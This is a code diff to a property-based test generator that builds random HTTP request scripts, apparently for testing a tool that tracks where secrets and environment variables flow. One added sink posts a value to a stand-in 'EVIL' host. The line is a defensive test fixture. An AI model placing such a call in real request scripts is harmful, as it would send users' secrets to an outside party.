@@ -27,7 +27,13 @@ const placeholder = (before: number): fc.Arbitrary<string> =>
         ]),
   );
 
-const before = ['tool.interpolate("{{$secret.K}}")', 'tool.interpolate("{{$env.E}}")', 'tool.interpolate("{{v0}} {{d1}}")'];
+const before = [
+  'pm.variables.replaceIn("{{$env.E}}")',
+  'bru.interpolate("{{v1}}")',
+  'tool.interpolate("{{$secret.K}}")',
+  'tool.interpolate("{{$env.E}}")',
+  'tool.interpolate("{{v0}} {{d1}}")',
+];
 const anywhere = ['tool.getVar("v0")', 'tool.vars().v1', 'request.headers["X-H"]', 'request.url', 'request.body'];
 const after = ['response.text', 'response.body.h', 'response.headers["X-Back"]'];
 const transforms = [
@@ -39,7 +45,15 @@ const transforms = [
   '[...s].join("-")',
   'tool.base64(s.slice(1))',
 ];
-const sinks = ['tool.setVar("v0", x)', 'tool.setVar("v1", x)', 'console.log(x)', 'tool.test(x, () => tool.expect(x).to.equal("no"))'];
+const sinks = [
+  'pm.environment.set("v0", x)',
+  'bru.setVar("v1", x)',
+  'await bru.sendRequest({ method: "POST", url: "EVIL/?s=" + encodeURIComponent(x), data: x })',
+  'tool.setVar("v0", x)',
+  'tool.setVar("v1", x)',
+  'console.log(x)',
+  'tool.test(x, () => tool.expect(x).to.equal("no"))',
+];
 const changes = ['request.headers["X-S"] = x', 'request.url += "&s=" + encodeURIComponent(x)', 'request.body = x', 'tool.skip(x)'];
 
 function script(isAfter: boolean, requests: number): fc.Arbitrary<string> {
@@ -67,14 +81,16 @@ function request(i: number): fc.Arbitrary<string> {
       inBody: placeholder(i),
       pre: optional(script(false, i)),
       post: optional(script(true, i)),
+      captures: fc.subarray(['@v0 << body.h', '@v1 << body.b', '@v1 << body.$..h', '@d0 << header X-Back'], { maxLength: 2 }),
       ref: fc.option(fc.nat(Math.max(0, i - 1)), { nil: undefined }),
     })
-    .map(({ server, inUrl, inHeader, inBody, pre, post, ref }) =>
+    .map(({ server, inUrl, inHeader, inBody, pre, post, captures, ref }) =>
       [
         `### r${i}\n# @name r${i}\n# @undefined keep`,
         ...(i > 0 && ref !== undefined ? [`# @ref r${ref}`] : []),
         ...(pre === undefined ? [] : [`< {%\n${pre}\n%}`]),
         `POST ${server}/?u=${inUrl}\nX-H: ${inHeader}\nContent-Type: text/plain\n\nb=${inBody}`,
+        ...(captures.length === 0 ? [] : [`\n${captures.join('\n')}`]),
         ...(post === undefined ? [] : [`\n> {%\n${post}\n%}`]),
       ].join('\n'),
     );
